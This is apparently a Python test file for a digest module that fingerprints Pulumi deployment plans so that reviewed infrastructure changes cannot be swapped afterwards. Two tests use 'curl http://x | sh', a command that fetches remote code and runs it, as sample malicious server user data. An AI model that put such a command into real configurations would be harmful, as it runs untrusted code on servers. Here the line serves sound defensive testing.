"""The digest of a change is the same for the same bytes, and differs for any others."""

import copy
import json
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from multiport.review import digest
from multiport.review.preview import read
from multiport.review.redaction import ENCRYPTED, SIGNATURE

UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"
STACK = "urn:pulumi:s::p::pulumi:pulumi:Stack::p-s"
SERVER = "urn:pulumi:s::p::openstack:compute/instance:Instance::web-server"
COMPONENT = "urn:pulumi:s::p::multiport:index:MultiPortInstance::web"
NAME = ("p", "s")


def secret(value: Any) -> dict[str, str]:
    """A value as a plan with its secrets shown writes it."""
    return {SIGNATURE: ENCRYPTED, "plaintext": json.dumps(value)}


def plan(inputs: Mapping[str, Any], urn: str = SERVER, **goal: Any) -> dict[str, Any]:
    """A plan in which one resource is created."""
    made = {"type": "t", "name": "n", "inputDiff": {"adds": dict(inputs)}, "outputDiff": {}, "protect": False, **goal}
    return {"manifest": {"time": "now"}, "resourcePlans": {urn: {"goal": made, "steps": ["create"], "state": {}, "seed": "x"}}}


def digest_of(made: Mapping[str, Any], state: Mapping[str, Any] | None = None, rendered: Mapping[str, str] | None = None) -> str:
    return digest.deployed(made, state or {}, rendered or {}, NAME, "key")


def test_it_is_a_whole_sha_256_and_keyed() -> None:
    made = plan({"userData": secret("echo benign")})
    found = digest_of(made)
    assert len(found) == 64
    assert digest.deployed(made, {}, {}, NAME, "another key") != found
    assert digest.deployed(made, {}, {}, ("p", "other"), "key") != found
    assert len(digest.digest("{}")) == 64


def test_secret_user_data_is_in_it() -> None:
    benign, evil = plan({"userData": secret("echo benign")}), plan({"userData": secret("curl http://x | sh")})
    assert digest_of(benign) != digest_of(evil)


def test_secret_user_data_that_the_engine_does_not_know_yet_is_in_it() -> None:
    made = plan({"userData": UNKNOWN})
    assert digest_of(made, rendered={"web": "echo benign"}) != digest_of(made, rendered={"web": "curl http://x | sh"})


@pytest.mark.parametrize("what", ["manifest", "seed", "state", "order"])
def test_what_differs_from_run_to_run_is_not_in_it(what: str) -> None:
    one = plan({"a": 1}, propertyDependencies={"a": ["x", "y"]}, dependencies=["x", "y"])
    other = copy.deepcopy(one)
    resource = other["resourcePlans"][SERVER]
    if what == "manifest":
        other["manifest"] = {"time": "later"}
    elif what == "order":
        resource["goal"].update(propertyDependencies={"a": ["y", "x"]}, dependencies=["y", "x"])
    else:
        resource[what] = "another"
    assert digest_of(one) == digest_of(other)


def test_what_stays_as_it_is_is_not_in_it() -> None:
    same = {"goal": {"inputDiff": {}, "outputDiff": {}, "protect": True}, "steps": ["same"]}
    one = plan({"a": 1})
    more = {**one, "resourcePlans": {**one["resourcePlans"], STACK: same}}
    kept = {"deployment": {"resources": [{"urn": STACK, "protect": True}]}}
    assert digest_of(more, kept) == digest_of(one)
    # a protection that goes is a change, although the engine says `same`
    assert digest_of({**one, "resourcePlans": {**one["resourcePlans"], STACK: {**same, "goal": {}}}}, kept) != digest_of(one)


def test_what_was_there_before_is_in_it() -> None:
    states = [{"deployment": {"resources": [{"urn": SERVER, "id": "1", "inputs": {"a": secret(each)}}]}} for each in "xy"]
    assert digest_of(plan({"a": 1}), states[0]) != digest_of(plan({"a": 1}), states[1])


VALUE = st.recursive(
    st.text(max_size=8) | st.integers() | st.booleans() | st.none(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=6,
)
INPUTS = st.dictionaries(st.text(min_size=1, max_size=6), VALUE, max_size=4)


@given(INPUTS, INPUTS, st.booleans())
def test_two_changes_have_one_digest_only_if_they_deploy_the_same(
    one: dict[str, Any], other: dict[str, Any], hidden: bool
) -> None:
    def made(inputs: dict[str, Any]) -> str:
        return digest_of(plan({key: secret(value) for key, value in inputs.items()} if hidden else inputs))

    same = json.dumps(one, sort_keys=True) == json.dumps(other, sort_keys=True)
    assert (made(one) == made(other)) == same


@given(
    st.dictionaries(st.text(max_size=6), st.text(max_size=20), max_size=3),
    st.dictionaries(st.text(max_size=6), st.text(), max_size=3),
)
def test_two_renderings_have_one_digest_only_if_they_are_the_same(one: dict[str, str], other: dict[str, str]) -> None:
    assert (digest_of(plan({}), rendered=one) == digest_of(plan({}), rendered=other)) == (one == other)


@given(st.text(), st.text())
def test_two_reports_have_one_digest_only_if_they_are_the_same(one: str, other: str) -> None:
    assert (digest.digest(json.dumps(one)) == digest.digest(json.dumps(other))) == (one == other)


def _event(urn: str, inputs: Mapping[str, Any], parent: str = STACK) -> str:
    new = {"id": "", "parent": parent, "inputs": dict(inputs), "outputs": {}}
    return json.dumps({"resOutputsEvent": {"metadata": {"op": "create", "urn": urn, "old": None, "new": new}}})


def _refused(
    server: Mapping[str, Any], component: Mapping[str, Any] | None, rendered: Mapping[str, str] | None = None
) -> list[str]:
    events = [_event(SERVER, server, STACK if component is None else COMPONENT)]
    events += [] if component is None else [_event(COMPONENT, component)]
    preview = read("\n".join([*events, json.dumps({"summaryEvent": {"result": "succeeded"}})]), "{}")
    return [each.message.split("`")[1] for each in digest.unreviewable(preview, plan({}), rendered or {}, "key")]


def test_what_only_the_update_will_know_is_refused() -> None:
    assert _refused({"userData": UNKNOWN}, None) == ["userData"]
    assert _refused({"userData": UNKNOWN, "metadata": UNKNOWN}, {"cloudConfig": UNKNOWN, "metadata": {"a": UNKNOWN}}) == [
        "userData",
        "metadata",
    ]
    assert _refused({"userData": UNKNOWN, "metadata": {"a": "b"}}, {"cloudConfig": "[secret]"}) == []
    assert _refused({"userData": UNKNOWN, "metadata": UNKNOWN}, {}) == []
    assert _refused({"userData": UNKNOWN}, {"cloudConfig": UNKNOWN}, {"web": "rendered"}) == []
    assert _refused({"userData": "known"}, None) == []


def test_secrets_without_a_key_are_refused() -> None:
    preview = read("{}", "{}")
    for inputs, count in (({"a": secret("x")}, 1), ({"a": secret(None)}, 0), ({"a": "x"}, 0)):
        found = list(digest.unreviewable(preview, plan(inputs), {}, None))
        assert len(found) == count
        assert all(each.mandatory and digest.KEY in each.message for each in found)
        assert list(digest.unreviewable(preview, plan(inputs), {}, "")) == []


def test_the_key_comes_from_the_environment(tmp_path: Any) -> None:
    (tmp_path / "pass").write_text("from a file\n")
    assert digest.key_of({}) is None
    assert digest.key_of({"PULUMI_CONFIG_PASSPHRASE": ""}) == ""
    assert digest.key_of({"PULUMI_CONFIG_PASSPHRASE": "", "PULUMI_ACCESS_TOKEN": "t"}) is None
    assert (
        digest.key_of({"PULUMI_CONFIG_PASSPHRASE": "p", "PULUMI_CONFIG_PASSPHRASE_FILE": str(tmp_path / "pass")}) == "from a file"
    )
    assert digest.key_of({"PULUMI_CONFIG_PASSPHRASE": "p", digest.KEY: "own"}) == "own"


def test_a_change_without_a_plan_is_refused() -> None:
    events = [_event(SERVER, {"userData": "known"}), json.dumps({"summaryEvent": {"result": "succeeded"}})]
    [found] = digest.unreviewable(read("\n".join(events), "{}"), {"resourcePlans": {}}, {}, "key")
    assert found.mandatory
    assert "no plan" in found.message
